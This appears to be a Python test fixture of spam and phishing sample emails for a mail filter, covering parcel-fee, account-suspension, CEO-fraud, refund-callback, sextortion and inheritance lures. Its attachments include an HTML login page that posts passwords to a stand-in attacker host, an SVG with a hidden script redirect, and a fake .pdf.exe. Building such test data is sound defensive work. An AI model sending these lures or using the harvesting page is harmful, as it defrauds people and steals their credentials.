"""Spam of today, in the forms of the honest mail beside it."""

from tests.mail.today.mime import Draft, File
from tests.mail.today.parts import button, calendar, inline_calendar, page, pdf, picture, zipped
from tests.mail.today.systems import (
    System,
    cloud_sender,
    code_forge,
    list_sender,
    numbered_sender,
    office_server,
    over_ipv6,
    own_server,
    rented_server,
    report_sender,
    web_mailbox,
)

_LOGIN = b"""<!DOCTYPE html><html><head><title>Voice Portal</title><script>
var address = atob("YW5uYS5saW5kQGhvbWUuZXhhbXBsZQ=="); document.title = "Sign in " + address;
</script></head><body onload="document.forms[0].user.value = address">
<form action="https://portal-login.badhost.example/next.php" method="post">
<img src="https://logo.badhost.example/brand.png"><input name="user"><input name="pass" type="password">
<button>Sign in to listen</button></form></body></html>
"""
_SVG = b"""<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 400 300"><rect width="400" height="300" fill="#fff"/>
<script><![CDATA[window.location.href = atob("aHR0cHM6Ly9wYXkuYmFkaG9zdC5leGFtcGxlLw==") + "anna";]]></script>
<a href="https://pay.badhost.example/document"><text x="20" y="40">Open the secured document</text></a></svg>
"""
_RENEWAL = calendar(
    "REQUEST",
    "Payment of 489.99 USD is due today",
    "Your antivirus subscription renews today for 489.99 USD. To cancel and get a refund call our billing desk at +1"
    " 555 0142 within 12 hours.",
    "https://refund-desk.badhost.example/cancel",
    "Billing Desk <billing.desk.481@webpost.example>",
    "7h2j4k6l8m1n3p5q7r9s@calendar.webpost.example",
)
_STYLED = str.maketrans(
    {chr(ord("A") + place): chr(0x1D5D4 + place) for place in range(26)}
    | {chr(ord("a") + place): chr(0x1D5EE + place) for place in range(26)}
)
_FULL_WIDTH = str.maketrans({chr(code): chr(code + 0xFEE0) for code in range(0x21, 0x7F)})

SPAM: tuple[tuple[System, Draft], ...] = (
    (
        numbered_sender,
        Draft(
            "parcel-that-is-held",
            "Postal Service <parcel@delivery-desk.example>",
            "Your parcel is on hold: customs fee of 1.99 unpaid",
            """Dear customer,

your parcel could not be delivered because the customs fee of 1.99 has not been paid. Confirm your address and pay
within 24 hours or the parcel will be returned to the sender.

Schedule your delivery now: [[https://parcel-fee.badhost.example/track]]

Unsubscribe: [[https://parcel-fee.badhost.example/u]]
""",
            page(
                "Action required: confirm your address within 24 hours",
                """<h1>Your parcel is on hold</h1><p>Dear customer,</p><p>your parcel could not be delivered because the
customs fee of <b>1.99</b> has not been paid. Confirm your address and pay within 24 hours or the parcel will be
returned
to the sender.</p>"""
                + button("https://parcel-fee.badhost.example/track", "Schedule delivery now")
                + '<p style="font-size:11px"><a href="[[https://parcel-fee.badhost.example/u]]">Unsubscribe</a></p>',
            ),
        ),
    ),
    (
        numbered_sender,
        Draft(
            "crypto-newsletter",
            "Profit Insider <alerts@profit-insider.example>",
            "Claim your 0.38 BTC before midnight, Anna",
            """Congratulations Anna!

Your wallet has been selected for our exclusive airdrop. Experts earn 7,400 dollars a week with this secret trading bot,
guaranteed, without any risk. Only 12 places are left, act now and claim your bonus.

CLAIM YOUR BITCOIN NOW: [[https://airdrop.badhost.example/claim]]
""",
            page(
                "Guaranteed profit without any risk, only 12 places left",
                """<h1>CONGRATULATIONS ANNA!</h1><p>Your wallet has been selected for our exclusive airdrop.
Experts earn
<b>7,400 dollars</b> a week with this secret trading bot, guaranteed, without any risk. Only 12 places are left, act now
and claim your bonus.</p>"""
                + button("https://airdrop.badhost.example/claim", "CLAIM YOUR BITCOIN NOW"),
            ),
        ),
    ),
    (
        cloud_sender,
        Draft(
            "suspended-account",
            "StreamBox Support <no-reply@streambox-billing.example>",
            "Your account is suspended: update your payment method",
            """Dear customer,

we could not process your last payment, and your account has been suspended. Verify your card within 24 hours to avoid
permanent deletion of your profile and all data.

Verify now: [[https://streambox-verify.badhost.example/login?id=anna.lind]]
""",
            page(
                "We could not process your last payment",
                """<h2>Your account is suspended</h2><p>Dear customer, we could not process your last payment. Verify
your card within 24 hours to avoid permanent deletion of your profile and all data.</p>"""
                + button("https://streambox-verify.badhost.example/login?id=anna.lind", "Verify now"),
            ),
        ),
    ),
    (
        cloud_sender,
        Draft(
            "prize-of-a-survey",
            "Rewards Center <winner@rewards-center.example>",
            "You have been selected! Your free drill set is waiting",
            """Congratulations! You have been selected to receive a FREE drill set worth 299 dollars.

Answer a short survey of 30 seconds and claim your reward. Pay only the delivery of 4.95. Offer expires today!

Claim your reward: [[https://win.badhost.example/survey?ref=anna]]
""",
            page(
                "Answer 30 seconds of questions, claim your free reward",
                """<h1>Congratulations!</h1><p>You have been selected to receive a <b>FREE drill set</b> worth 299
dollars. Answer a short survey of 30 seconds and claim your reward. Pay only the delivery of 4.95. Offer expires
today!</p>"""
                + button("https://win.badhost.example/survey?ref=anna", "Claim your reward"),
            ),
        ),
    ),
    (
        list_sender,
        Draft(
            "pills-in-a-newsletter",
            "Doctor's Choice <health@keto-daily.example>",
            "Burn belly fat while you sleep: 80% OFF today only",
            """Doctors are stunned: this one weird gummy burns belly fat while you sleep.

No diet, no exercise, 100% natural. Order now and get 80% OFF plus a free bottle. Limited offer, act fast!

Order now: [[https://gummies.badhost.example/order]]
""",
            page(
                "80% OFF and a free bottle, today only",
                """<h1>Doctors are stunned</h1><p>This one weird gummy burns belly fat while you sleep. No diet, no
exercise, 100% natural. Order now and get <b>80% OFF</b> plus a free bottle. Limited offer, act fast!</p>"""
                + button("https://gummies.badhost.example/order", "ORDER NOW"),
            ),
        ),
    ),
    (
        list_sender,
        Draft(
            "casino-newsletter",
            "Lucky Reels <vip@luckyreels.example>",
            "200 FREE SPINS and a 500% bonus are waiting for you",
            """Exclusive VIP offer: deposit 10 dollars and play with 60! 200 FREE SPINS, no wager, instant withdrawal.

Your bonus expires at midnight. Play now and win the jackpot of 1,284,000 dollars.

PLAY NOW: [[https://spins.badhost.example/vip]]
""",
            page(
                "Your exclusive bonus expires at midnight",
                """<h1>200 FREE SPINS</h1><p>Exclusive VIP offer: deposit 10 dollars and play with 60! No wager, instant
withdrawal. Your bonus expires at midnight. Play now and win the jackpot of 1,284,000 dollars.</p>"""
                + button("https://spins.badhost.example/vip", "PLAY NOW"),
            ),
        ),
    ),
    (
        web_mailbox,
        Draft(
            "boss-fraud",
            "Ola Berg <ola.berg.ceo.office@webpost.example>",
            "Quick task",
            """Are you available? I am in a meeting and cannot take calls. I need you to handle an urgent and
confidential
payment to a vendor before noon. Send me your mobile number and keep this between us.

Ola Berg
Sent from my phone
""",
            reply_to="Ola Berg <ceo.private.desk@inbox.example>",
        ),
    ),
    (
        web_mailbox,
        Draft(
            "renewal-in-a-calendar",
            "Billing Desk <billing.desk.481@webpost.example>",
            "Invitation: Payment of 489.99 USD is due today @ Wed 17 Jun 2026 14:00 (anna.lind@home.example)",
            """Payment of 489.99 USD is due today
Wednesday 17 Jun 2026, 14:00 to 15:00

Your antivirus subscription renews today for 489.99 USD. To cancel and get a refund call our billing desk at +1 555 0142
within 12 hours.
Reply for anna.lind@home.example: [[https://calendar.webpost.example/event?action=RESPOND&eid=N2gyajRrNmw4bTFuM3A1cTdy]]
""",
            """<div><h2>Payment of 489.99 USD is due today</h2><p>Your antivirus subscription renews today for
489.99 USD.
To cancel and get a refund call our billing desk at +1 555 0142 within 12 hours.</p>
<a href="[[https://calendar.webpost.example/event?action=RESPOND&eid=N2gyajRrNmw4bTFuM3A1cTdy]]">Yes</a></div>
""",
            invitation=inline_calendar("REQUEST", _RENEWAL),
            attached=(File("application/ics", "invite.ics", _RENEWAL),),
        ),
    ),
    (
        web_mailbox,
        Draft(
            "renewal-in-a-pdf",
            "Order Team 7741 <orderteam7741@webpost.example>",
            "Invoice PY-88213-KL confirmed",
            """Dear user,

your order of Total Shield Security for 3 years has been confirmed, and 489.99 USD will be debited within 24 hours. If
you did not authorize this payment call our refund desk immediately: +1 555 0142.

Invoice is attached.
""",
            attached=(pdf("INVOICE_PY-88213-KL.pdf"),),
        ),
    ),
    (
        web_mailbox,
        Draft(
            "inheritance",
            "Barrister J. Okoro <barrister.okoro.chambers@webpost.example>",
            "Re: your inheritance fund of 10.5 million dollars",
            """Dear beneficiary,

I am the personal attorney of a late client who left a fund of 10.5 million dollars and bears your last name. I
seek your
consent to present you as next of kin so that the fund is released to you. This is confidential and risk free. Reply
urgently with your full name, your bank account and a copy of your passport.

Yours faithfully
Barrister J. Okoro
""",
            reply_to="okoro.chambers@inbox.example",
        ),
    ),
    (
        office_server,
        Draft(
            "voicemail-with-html",
            "Northmill Voice <reception@tilehouse.example>",
            "New voicemail from +1 555 0199 (0:47) for anna.lind",
            """You received a new voice message.

Caller: +1 555 0199
Duration: 47 seconds

To listen to the message open the attached file and sign in with your mail password. It will be deleted within 24 hours.
""",
            """<html><body><p class="MsoNormal">You received a new voice
message.</p><table><tr><td>Caller:</td><td>+1 555
0199</td></tr><tr><td>Duration:</td><td>47 seconds</td></tr></table><p class="MsoNormal">To listen to the message open
the attached file and sign in with your mail password. It will be deleted within 24 hours.</p></body></html>
""",
            attached=(File("text/html", "VM_0047sec_anna.lind.html", _LOGIN),),
        ),
    ),
    (
        office_server,
        Draft(
            "document-in-svg",
            "Accounts <accounts@tilehouse.example>",
            "Remittance advice: secured document for anna.lind",
            """Please find attached the secured payment document. Open it in your browser and sign in to view the
remittance.
This message expires within 24 hours.
""",
            attached=(File("image/svg+xml", "Remittance_Advice_0617.svg", _SVG),),
        ),
    ),
    (
        office_server,
        Draft(
            "qr-for-a-second-factor",
            "IT Helpdesk <helpdesk@tilehouse.example>",
            "Action required: your MFA expires today",
            """Your multi-factor authentication expires today. Scan the QR code with your phone to keep your
mailbox active.
Accounts that are not verified within 24 hours will be suspended.
""",
            """<html><body><p class="MsoNormal">Your multi-factor authentication expires today. Scan the QR code
with your
phone to keep your mailbox active. Accounts that are not verified within 24 hours will be suspended.</p>
<img src="cid:qr.png" width="240" height="240"></body></html>
""",
            attached=(picture("qr.png", "image/png", 4096),),
        ),
    ),
    (
        code_forge,
        Draft(
            "airdrop-on-an-issue",
            "eth-foundation-grants <notifications@codeforge.example>",
            "Re: [lind/harbour] Claim your developer airdrop now (Issue #587)",
            """Congratulations @lind! Your account has been selected for the developer airdrop of 4,200 dollars in
tokens.
Connect your wallet within 24 hours to claim your reward.

[[https://dev-airdrop.badhost.example/claim]]

--
Reply to this email directly or view it on CodeForge:
[[https://codeforge.example/lind/harbour/issues/587#issuecomment-2899911455]]
You are receiving this because you were mentioned.

Message ID: <lind/harbour/issues/587/2899911455@codeforge.example>
""",
            """<p dir="auto">Congratulations <a href="[[https://codeforge.example/lind]]">@lind</a>! Your account
has been
selected for the developer airdrop of 4,200 dollars in tokens. Connect your wallet within 24 hours to claim your
reward.</p><p><a href="[[https://dev-airdrop.badhost.example/claim]]">Claim now</a></p><p
style="font-size:small;color:#666">Reply to this email directly or <a
href="[[https://codeforge.example/lind/harbour/issues/587#issuecomment-2899911455]]">view it on CodeForge</a>.</p>
""",
            reply_to="lind/harbour <reply+AAC5H8PW2NXKTQ4RUNWVNHHB7D3LQEVBNHHMKA@reply.codeforge.example>",
        ),
    ),
    (
        report_sender,
        Draft(
            "report-that-is-a-program",
            "Scan Service <scanner@webpost.example>",
            "Report domain: home.example Document-ID: 77120934818273645510",
            "Your scanned document is attached. Open it to see the unpaid invoice.\n",
            attached=(
                zipped(
                    "Scanned_Document_Invoice_2026-06-17_home.example_77120934818273645510.pdf.exe",
                    "Invoice.pdf.exe",
                    b"MZ" + bytes(range(256)) * 20,
                ),
            ),
        ),
    ),
    (
        own_server,
        Draft(
            "extortion",
            "You <anna.lind@home.example>",
            "I recorded you",
            """Hello pervert,

I hacked your device and installed my software on it. I recorded you through your camera while you visited adult sites,
and copied all your contacts. Transfer 1,400 dollars in Bitcoin to my wallet within 48 hours or I send the video to
everybody you know. Do not go to the police, do not reply.

bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq
""",
            late=600,
        ),
    ),
    (
        own_server,
        Draft(
            "redirected-to-another-site",
            "Mountain Huts Reward <booking@mountain-huts-reward.example>",
            "Refund of your booking: claim 236.00 now",
            """Dear customer,

a refund of 236.00 for your last booking is waiting. Confirm your card number within 24 hours to receive the money.

Claim your refund: [[https://www.searchpage.example/url?q=https%3A%2F%2Frefund-desk.badhost.example%2Fcard]]
""",
        ),
    ),
    (
        rented_server,
        Draft(
            "styled-letters",
            "Premium Watches".translate(_STYLED) + " <wordpress@timepieces.example>",
            "Free luxury watches for you".translate(_STYLED),
            "Exclusive replica watches with free delivery".translate(_STYLED)
            + """

Order today and save up to 85%. Best quality, cheap price, limited stock.

[[https://watches.badhost.example/sale]]
""",
        ),
    ),
    (
        rented_server,
        Draft(
            "full-width-letters",
            "Loan Office <wordpress@fastloan.example>",
            "Instant loan approved".translate(_FULL_WIDTH),
            "Cash in ten minutes".translate(_FULL_WIDTH)
            + """

Your loan of 50,000 dollars is approved without any check. No guarantee, low interest. Reply with your bank account
and passport to receive the money today.
""",
            reply_to="fast.loan.desk@inbox.example",
        ),
    ),
    (
        over_ipv6,
        Draft(
            "invoice-over-ipv6",
            "Accounts Payable <accounts@payable-desk.example>",
            "OVERDUE INVOICE 88213: FINAL NOTICE",
            """Dear customer,

your invoice 88213 of 1,940.00 is overdue. Pay within 24 hours to avoid legal action and additional fees. Our bank
account has changed: see the new details on our page.

https://invoice.badhost.example/88213
""",
        ),
    ),
)
